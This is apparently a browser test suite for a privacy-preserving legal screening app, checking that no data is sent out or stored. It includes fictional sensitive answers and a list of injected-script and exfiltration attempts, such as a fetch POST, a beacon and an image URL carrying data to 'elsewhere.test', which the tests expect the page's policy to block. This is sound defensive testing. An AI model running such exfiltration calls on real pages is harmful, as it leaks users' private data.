// Silence: after the page has loaded, nothing leaves it and nothing stays, whatever is answered and looked for.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { finger } from './hands.mjs';
import { HOME, launch, open, state } from './open.mjs';
import { screening } from './screening.mjs';
import { enter } from './walk.mjs';

let browser;
before(async () => { browser = await launch(); });
after(() => browser.close());

/** Values that stand nowhere but in this person's answers, as the rules and as people write them. */
const SECRET = 'rosa-hurt-by-green-card-husband';
const ZIP = '79901';
const TELLING = ['1992', 'green-card-spouse', 'domestic-violence', '2021-06', 'during-tie', 'rosa', ZIP, 'El Paso', 'vawa'];

for (const tag of ['en', 'es']) {
  test(`a whole screening sends nothing and leaves nothing, in ${tag}`, async () => {
    const spoken = [];
    const before = (page) => page.on('console', (message) => spoken.push(message.text()));
    const walk = await enter(browser, { name: SECRET, tag, hand: finger, before });
    const { page, seen, context } = walk;
    const loaded = seen.requests.length;
    const length = await page.evaluate(() => history.length);
    await context.setOffline(true);
    await screening(walk, ZIP);
    assert.deepEqual(seen.requests.slice(loaded), [], 'something was asked for');
    assert.deepEqual(await page.evaluate(() => performance.getEntriesByType('resource').length), loaded - 1);
    assert.deepEqual([seen.breaches, seen.messages, spoken], [[], [], []]);
    assert.equal(page.url(), HOME);
    assert.equal(await page.title(), 'Waymark');
    const left = await traces(page);
    assert.deepEqual(left, { history: null, length, name: '', local: '{}', session: '{}', databases: [], caches: [], workers: 0 });
    assert.deepEqual(await context.cookies(), []);
    assert.deepEqual(telling(await context.storageState({ indexedDB: true })), []);
    await context.close();
  });
}

test('what is left is looked for where it could be', async () => {
  const { page, context } = await open(browser);
  await state(page, 'app');
  await page.evaluate(async () => {
    localStorage.setItem('a', '1992');
    sessionStorage.setItem('b', 'vawa');
    history.replaceState({ zip: '79901' }, '');
    document.cookie = 'c=El Paso';
    await new Promise((done) => { indexedDB.open('d').onsuccess = done; });
    await (await caches.open('e')).put('/x', new Response('rosa'));
  });
  const left = await traces(page);
  assert.deepEqual(telling(left), ['1992', ZIP, 'vawa']);
  assert.deepEqual([left.databases, left.caches], [['d'], ['e']]);
  assert.deepEqual(telling(await context.storageState()), ['1992', 'El Paso']);
  await context.close();
});

/** Each is caught by the policy, and the page hears of it: so an empty list means that nothing was tried. */
const BREACHES = {
  'a script in the page': () => {
    const script = document.createElement('script');
    script.append('globalThis.ran = true');
    document.head.append(script);
  },
  'a script in an attribute': () => document.body.setAttribute('onclick', 'globalThis.ran = true'),
  'markup from a text': () => { document.createElement('div').innerHTML = '<b></b>'; },
  'a picture from elsewhere': () => document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.test/?a=1992' })),
  'a word to elsewhere': () => fetch('https://elsewhere.test/', { method: 'POST', body: '1992' }),
  'a beacon': () => navigator.sendBeacon('https://elsewhere.test/', '1992'),
  'a style in the page': () => document.head.append(Object.assign(document.createElement('style'), { textContent: 'p{color:red}' })),
};

for (const [name, breach] of Object.entries(BREACHES)) {
  test(`a breach is seen: ${name}`, async () => {
    const { page, seen, context } = await open(browser);
    await state(page, 'app');
    assert.deepEqual(seen.breaches, []);
    const answers = [];
    page.on('response', (response) => answers.push(response.url()));
    const told = page.waitForEvent('console', { timeout: 20_000 });
    await page.evaluate(`try { Promise.resolve((${breach})()).catch(() => {}) } catch {}`);
    await told;
    assert.notDeepEqual(seen.breaches, []);
    await page.locator('body').dispatchEvent('click');
    assert.equal(await page.evaluate(() => globalThis.ran), undefined);
    assert.deepEqual(answers.filter((url) => !url.startsWith(HOME)), [], 'it went out all the same');
    await context.close();
  });
}

/** What the page has written anywhere that outlives a screen. */
function traces(page) {
  return page.evaluate(async () => ({
    history: history.state, length: history.length, name: globalThis.name,
    local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage),
    databases: (await indexedDB.databases()).map(({ name }) => name), caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }));
}

/** The telling values that stand in this. */
function telling(thing) {
  const text = JSON.stringify(thing);
  return TELLING.filter((value) => text.includes(value));
}
